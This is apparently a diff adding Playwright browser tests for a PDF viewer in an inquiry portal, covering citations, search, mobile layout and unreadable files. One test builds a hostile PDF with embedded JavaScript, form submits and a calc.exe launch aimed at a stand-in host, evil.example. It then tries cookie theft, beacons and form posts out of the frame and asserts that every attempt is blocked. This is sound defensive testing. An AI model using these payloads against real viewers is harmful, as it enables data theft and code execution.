@@ -1,0 +1,348 @@
+// Reading documents in the browser: from a citation to its page, search, keys, narrow windows, documents that attack, and
+// documents that cannot be shown.
+import type { Frame } from '@playwright/test';
+import { custodyRecord } from '../../../contract/custody.ts';
+import { messages } from '../../../contract/messages.ts';
+import { pages } from '../../../contract/pages.ts';
+import { barriersOf } from '../../support/browser/barriers.ts';
+import { expect, open, type Page, test } from '../../support/browser/journey.ts';
+import { signInAsClient, signInAsStaff } from '../../support/browser/steps.ts';
+import { inquiryFields, smallFile } from '../../support/cases.ts';
+import { makeDocx } from '../../support/documents/docx.ts';
+import { jbig2Picture, jpxPicture, linkWith, makePages } from '../../support/documents/pdf-pages.ts';
+import { newClient } from '../../support/people.ts';
+import { WireClient } from '../../support/requests/wire-client.ts';
+
+const visits = (count: number) =>
+  Array.from({ length: count }, (_, index) => ({ text: `Fictitious visit number ${index + 1}.` }));
+
+const frameOf = (page: Page) => page.frameLocator('iframe');
+const shownPage = (page: Page) => page.getByRole('textbox', { name: 'Page' });
+
+/** The frame itself, to run scripts in it as a document that has taken it over. */
+async function takenFrame(page: Page): Promise<Frame> {
+  const frame = await (await page.waitForSelector('iframe')).contentFrame();
+  if (!frame) throw new Error('The page has no frame');
+  return frame;
+}
+
+test('a client follows a citation to its page, and reads on with mouse, keys and search', {
+  tag: ['@R2.250', '@R2.254', '@R2.255', '@R2.256', '@R2.257', '@R2.263', '@R2.264'],
+}, async ({ page, server }) => {
+  const { person, wire } = await newClient(server.url, 'Casey Sample');
+  const id = await wire.submit(inquiryFields(), [smallFile('Volume 1.pdf')]);
+  const staff = new WireClient(server.url);
+  await staff.signInAsStaff(server.admin);
+  const report = { name: 'Chronology.pdf', content: makePages(visits(12)) };
+  await staff.answer(id, 'The gap is on p. 3 of Reports 1, not on p. 2 of Records 9.', [report]);
+
+  await signInAsClient(page, person);
+  await open(page, `${pages.clientInquiry}?id=${id}`);
+  await expect(page.getByRole('listitem').filter({ hasText: 'Chronology.pdf' })).toContainText('Reports 1');
+  await expect(page.getByRole('link', { name: /^p\. / })).toHaveCount(1);
+  await expect(page.getByText('p. 2 of Records 9')).toBeVisible();
+  expect(await barriersOf(page)).toEqual([]);
+  const [viewer] = await Promise.all([
+    page.waitForEvent('popup'),
+    page.getByRole('link', { name: 'p. 3 of Reports 1' }).click(),
+  ]);
+  const visit = (number: number) => frameOf(viewer).getByText(`Fictitious visit number ${number}.`);
+  await expect(visit(3)).toBeInViewport();
+  await expect(shownPage(viewer)).toHaveValue('3');
+  await expect(viewer.getByText('of 12')).toBeVisible();
+
+  await viewer.getByRole('button', { name: 'Next page' }).click();
+  await expect(visit(4)).toBeInViewport();
+  await expect(viewer).toHaveURL(/#page=4$/);
+  await frameOf(viewer).locator('#pages').press('ArrowRight');
+  await expect(shownPage(viewer)).toHaveValue('5');
+  await shownPage(viewer).fill('11');
+  await shownPage(viewer).press('Enter');
+  await expect(visit(11)).toBeInViewport();
+
+  await frameOf(viewer).locator('#pages').press('Control+f');
+  const search = viewer.getByRole('searchbox');
+  await expect(search).toBeFocused();
+  await search.fill('visit number 7');
+  await search.press('Enter');
+  await expect(visit(7)).toBeInViewport();
+  await expect(viewer.getByText('1 of 1')).toBeVisible();
+  await search.fill('thunderstorm');
+  await search.press('Enter');
+  await expect(viewer.getByText('Not found.')).toBeVisible();
+
+  // A reload opens the page that was read, and a new address the page that it names.
+  await expect(viewer).toHaveURL(/#page=7$/);
+  await viewer.reload();
+  await expect(visit(7)).toBeInViewport();
+  await viewer.evaluate(() => window.location.assign('#page=2'));
+  await expect(visit(2)).toBeInViewport();
+
+  expect(await barriersOf(viewer)).toEqual([]);
+  await viewer.setViewportSize({ width: 390, height: 844 });
+  await expect(visit(2)).toBeVisible();
+  expect(await viewer.evaluate(() => document.documentElement.scrollWidth)).toBe(390);
+  const isWide = () =>
+    frameOf(viewer)
+      .locator('#pages')
+      .evaluate((box) => box.scrollWidth > box.clientWidth);
+  await expect.poll(isWide).toBe(false);
+  await viewer.getByRole('button', { name: 'Zoom in' }).click();
+  await expect.poll(isWide).toBe(true);
+
+  const record = await wire.call(custodyRecord, { inquiryid: id });
+  const events = record.success === 1 ? record.data.map(({ event }) => event) : [];
+  expect(events.filter((event) => event === 'file-opened')).toHaveLength(1);
+});
+
+test('staff cite a page, are warned of citations that lead nowhere, and copy one from the viewer', {
+  tag: ['@R2.260', '@R2.265', '@R2.266', '@R2.267'],
+}, async ({ server, staffPage }) => {
+  const { wire } = await newClient(server.url, 'Casey Sample');
+  const volume = { name: 'Volume 1.pdf', content: makePages(visits(4)) };
+  const id = await wire.submit(inquiryFields(), [volume, { name: 'Letter.docx', content: makeDocx() }]);
+  await signInAsStaff(staffPage, server.admin);
+  await open(staffPage, `${pages.staffInquiry}?id=${id}`);
+  await expect(staffPage.getByText('Word file: download only')).toBeVisible();
+
+  const comment = staffPage.getByLabel('Comment');
+  await comment.fill('Before.After');
+  await comment.evaluate((area: HTMLTextAreaElement) => area.setSelectionRange(7, 7));
+  await staffPage.getByText('Cite a page').click();
+  await staffPage.getByLabel('File', { exact: true }).selectOption('Records 1: Volume 1.pdf');
+  await staffPage.getByLabel('Page', { exact: true }).fill('0');
+  await staffPage.getByRole('button', { name: 'Insert' }).click();
+  await expect(staffPage.getByText('Enter the number of a page.')).toBeVisible();
+  await staffPage.getByLabel('Page', { exact: true }).fill('3');
+  await staffPage.getByLabel('Page', { exact: true }).press('Enter');
+  await expect(comment).toHaveValue('Before. p. 3 of Records 1After');
+  await comment.fill('See p. 3 of Records 1 and p. 1 of Records 2 and p. 5 of Reports 4.');
+  const warning = /will be no link: p\. 1 of Records 2; p\. 5 of Reports 4/;
+  await expect(staffPage.getByText(warning)).toBeVisible();
+  await staffPage.getByLabel('Choose files').setInputFiles(report());
+  expect(await barriersOf(staffPage)).toEqual([]);
+  await staffPage.getByRole('button', { name: 'Submit review' }).click();
+  const question = staffPage.getByRole('dialog');
+  await expect(question.locator('.cite')).toHaveText(['p. 3 of Records 1']);
+  await expect(question.getByText(warning)).toBeVisible();
+  await question.getByRole('button', { name: 'Back to editing' }).click();
+
+  await staffPage.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+  const [viewer] = await Promise.all([
+    staffPage.waitForEvent('popup'),
+    staffPage.getByRole('link', { name: 'View Records 1' }).click(),
+  ]);
+  await viewer.getByRole('button', { name: 'Next page' }).click();
+  await expect(shownPage(viewer)).toHaveValue('2');
+  await viewer.getByRole('button', { name: 'Copy citation' }).click();
+  await expect(viewer.getByText('Copied: p. 2 of Records 1')).toBeVisible();
+  expect(await viewer.evaluate(() => navigator.clipboard.readText())).toBe('p. 2 of Records 1');
+  await expect(comment).toHaveValue(/^See p\. 3/);
+});
+
+const report = () => ({ name: 'Report.pdf', mimeType: 'application/pdf', buffer: makePages(visits(1)) });
+
+test('a document that attacks runs nothing, leads nowhere and sends nothing', {
+  tag: ['@R2.251', '@R2.253'],
+}, async ({ page, context, server, dialogs, complaints }) => {
+  const { person, wire } = await newClient(server.url, 'Casey Sample');
+  const script = (code: string) => `/S /JavaScript /JS (${code})`;
+  const outside = 'https://evil.example/';
+  const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (x) /Rect [0 0 612 200] /AA << /E << ${script('app.alert("entered")')} >> >> >>`;
+  const button = `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 200 612 396] /A << /S /SubmitForm /F (${outside}form) >> >>`;
+  const content = makePages(
+    [
+      { text: 'Page with a link.', annotations: [linkWith(`/S /URI /URI (${outside}link)`)] },
+      { text: 'Page with a form.', annotations: [field, button] },
+      { text: 'Page with a script.', annotations: [linkWith(script(`app.launchURL("${outside}script")`))] },
+      { text: 'Page with a program.', annotations: [linkWith('/S /Launch /F (calc.exe)')] },
+      { text: 'Page with a local link.', annotations: [linkWith('/S /URI /URI (javascript:alert\\(1\\))')] },
+    ],
+    {
+      catalog: `/OpenAction << ${script(`app.alert("opened"); this.submitForm("${outside}open")`)} >> /AA << /WC << ${script('app.alert("closed")')} >> >> /AcroForm << /Fields [] /NeedAppearances true >>`,
+    },
+  );
+  const id = await wire.submit(inquiryFields(), [{ name: 'Volume 1.pdf', content }]);
+  await signInAsClient(page, person);
+  const sent: string[] = [];
+  // What the policy stops never gets here.
+  await context.route(`${outside}**`, (route) => {
+    sent.push(route.request().url());
+    return route.fulfill({ body: 'reached' });
+  });
+  context.on('page', (opened) => sent.push(`a new page: ${opened.url()}`));
+  for (const number of [1, 2, 3, 4, 5]) {
+    await page.goto(`${pages.clientFile}?id=${id}&records=1#page=${number}`);
+    await page.reload();
+    await expect(shownPage(page)).toHaveValue(String(number));
+    const sheet = frameOf(page).locator(`.page[data-page-number="${number}"]`);
+    await expect(sheet.locator('canvas').first()).toBeVisible();
+    for (const target of await sheet.locator('.annotationLayer section > *').all()) {
+      await target.click({ force: true, timeout: 2_000 }).catch(() => {});
+    }
+    await sheet.click({ position: { x: 100, y: 200 } });
+    expect(frameOf(page).locator('#pages')).toBeVisible();
+  }
+
+  // Even with the whole frame in its hands, a document gets nothing out and nothing of ours in.
+  complaints.expect(/Content Security Policy|security policy|sandbox|Blocked|blocked|about:blank/i);
+  const frame = await takenFrame(page);
+  const results = await frame.evaluate(async (address) => {
+    const failed = async (attempt: () => unknown) => {
+      try {
+        await attempt();
+        return 'worked';
+      } catch {
+        return 'failed';
+      }
+    };
+    const image = (source: string) =>
+      new Promise((resolve, reject) => {
+        Object.assign(new Image(), { onload: resolve, onerror: reject, src: source });
+      });
+    const inner = window as Window & typeof globalThis;
+    return {
+      'another site': await failed(() => fetch(address)),
+      'our calls': await failed(() => fetch('/user/session', { credentials: 'include' })),
+      'a file': await failed(() => fetch('/api/view/x.pdf')),
+      'a beacon': await failed(() => {
+        if (!navigator.sendBeacon(address)) throw new Error('refused');
+        throw new Error('sent by the browser, and blocked by the policy');
+      }),
+      'a picture': await failed(() => image(`${address}picture`)),
+      'the page': await failed(() => window.parent.document.title),
+      'the address of the page': await failed(() => window.parent.location.href),
+      'the cookie': await failed(() => document.cookie),
+      storage: await failed(() => window.localStorage.length),
+      eval: await failed(() => inner.eval('1')),
+      'a new script': await failed(
+        () =>
+          new Promise((resolve, reject) => {
+            const element = document.createElement('script');
+            Object.assign(element, { textContent: 'window.hacked = true' });
+            document.body.append(element);
+            if (Reflect.get(window, 'hacked')) resolve(true);
+            else reject(new Error('did not run'));
+          }),
+      ),
+      'a window': await failed(() => {
+        if (!window.open(address)) throw new Error('refused');
+      }),
+      'the address bar': await failed(() => {
+        (window.top as Window).location.href = address;
+      }),
+      'a form': await failed(() => {
+        const form = document.createElement('form');
+        Object.assign(form, { action: address, method: 'post' });
+        document.body.append(form);
+        form.submit();
+        throw new Error('stays');
+      }),
+    };
+  }, outside);
+  expect(new Set(Object.values(results)), JSON.stringify(results)).toEqual(new Set(['failed']));
+  // It may leave its place, but only for our own addresses, which refuse to be framed.
+  await frame.evaluate((address) => window.location.assign(`${address}leave?stolen`), outside);
+  await expect.poll(() => page.frames().some((each) => each.url().startsWith(outside))).toBe(false);
+
+  expect(sent).toEqual([]);
+  // Of the sign-in.
+  expect(dialogs).toEqual([messages.loginOk]);
+  expect(page.url()).toContain(pages.clientFile);
+});
+
+test('pictures in the two formats of scanners are drawn, under the policy of the frame', {
+  tag: '@R2.251',
+}, async ({ page, server }) => {
+  const { person, wire } = await newClient(server.url, 'Casey Sample');
+  const content = makePages([
+    { text: 'JBIG2', picture: jbig2Picture() },
+    { text: 'JPEG 2000', picture: jpxPicture() },
+  ]);
+  const id = await wire.submit(inquiryFields(), [{ name: 'Scan.pdf', content }]);
+  await signInAsClient(page, person);
+  await open(page, `${pages.clientFile}?id=${id}&records=1`);
+  /** The gray at a quarter and at three quarters of a page's width, in its middle. */
+  const grays = (number: number) =>
+    frameOf(page)
+      .locator(`.page[data-page-number="${number}"] canvas`)
+      .first()
+      .evaluate((canvas: HTMLCanvasElement) => {
+        const { width, height } = canvas;
+        const at = (part: number) =>
+          canvas.getContext('2d')?.getImageData(width * part, height / 2, 1, 1).data[0];
+        return [at(0.25), at(0.75)];
+      });
+  await expect.poll(() => grays(1)).toEqual([255, 0]);
+  await page.getByRole('button', { name: 'Next page' }).click();
+  await expect.poll(() => grays(2)).toEqual([128, 128]);
+});
+
+test('the first page of a large file is shown after a small part of it is read', {
+  tag: '@R2.258',
+}, async ({ page, server }) => {
+  const { person, wire } = await newClient(server.url, 'Casey Sample');
+  const content = makePages(visits(9), { padding: 40 * 1024 * 1024 });
+  const id = await wire.submit(inquiryFields(), [{ name: 'Volume 1.pdf', content }]);
+  await signInAsClient(page, person);
+  let bytes = 0;
+  page.on('response', (response) => {
+    if (response.url().includes('/api/view/')) bytes += Number(response.headers()['content-length']);
+  });
+  await open(page, `${pages.clientFile}?id=${id}&records=1`);
+  await expect(frameOf(page).getByText('Fictitious visit number 1.')).toBeVisible();
+  expect(bytes).toBeLessThan(1024 * 1024);
+});
+
+test('what cannot be shown says why, and what to do next', {
+  tag: ['@R2.259', '@R2.261', '@R2.252'],
+}, async ({ page, context, server, complaints }) => {
+  const { person, wire } = await newClient(server.url, 'Casey Sample');
+  const id = await wire.submit(inquiryFields(), [
+    { name: 'Damaged.pdf', content: Buffer.from('%PDF-1.7\nFictitious, and nothing else.\n%%EOF\n') },
+    { name: 'Locked.pdf', content: makePages(visits(3), { password: 'opensesame' }) },
+    { name: 'Letter.docx', content: makeDocx() },
+    { name: 'Long.pdf', content: makePages(visits(9), { padding: 4 * 1024 * 1024 }) },
+  ]);
+  await signInAsClient(page, person);
+  const view = (number: number, hash = '') =>
+    open(page, `${pages.clientFile}?id=${id}&records=${number}${hash}`);
+
+  await view(1);
+  await expect(page.getByText('it is damaged, or not a real PDF')).toBeVisible();
+  expect(await barriersOf(page)).toEqual([]);
+
+  await view(2);
+  const password = page.getByLabel('Password of the document');
+  await password.fill('wrong');
+  await page.getByRole('button', { name: 'Open the document' }).click();
+  await expect(page.getByText('This is not its password.')).toBeVisible();
+  expect(await barriersOf(page)).toEqual([]);
+  await password.fill('opensesame');
+  await page.getByRole('button', { name: 'Open the document' }).click();
+  await expect(frameOf(page).getByText('Fictitious visit number 1.')).toBeVisible();
+
+  await view(3);
+  await expect(page.getByText('A Word file can only be downloaded.')).toBeVisible();
+  await view(7);
+  await expect(page.getByText('This inquiry has no Records 7.')).toBeVisible();
+
+  await view(4, '#page=40');
+  await expect(page.getByText('Page 40 was asked for, but this document has 9 pages.')).toBeVisible();
+  await view(4);
+  await page.reload();
+  await expect(frameOf(page).getByText('Fictitious visit number 1.')).toBeVisible();
+  complaints.expect(/ERR_INTERNET_DISCONNECTED|Failed to load resource/);
+  await context.setOffline(true);
+  const search = page.getByRole('searchbox');
+  await search.fill('visit number 9');
+  await search.press('Enter');
+  await context.setOffline(false);
+  await expect(frameOf(page).getByText('Fictitious visit number 9.')).toBeInViewport();
+
+  // A copy of the address, after signing out: the sign-in page, and back.
+  await context.clearCookies();
+  complaints.expect(/401/);
+  await page.reload();
+  await expect(page).toHaveURL(new RegExp(pages.login));
+});
